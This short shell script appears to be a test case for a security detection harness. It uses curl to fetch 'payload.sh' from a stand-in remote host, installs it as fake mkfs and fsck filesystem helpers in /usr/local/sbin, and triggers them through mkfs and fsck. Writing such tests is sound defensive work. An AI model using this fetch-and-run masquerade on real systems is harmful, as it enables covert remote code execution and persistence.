#!/bin/sh
. /opt/case/case.sh

curl -s -o /usr/local/sbin/mkfs.zfsx http://203.0.113.10/payload.sh && chmod 755 /usr/local/sbin/mkfs.zfsx
cp /usr/local/sbin/mkfs.zfsx /usr/local/sbin/fsck.zfsx
mkfs -t zfsx /tmp/none
test -e /tmp/reached; rm /tmp/reached
fsck -T -t zfsx /tmp/none >/dev/null 2>&1 || true
took_place
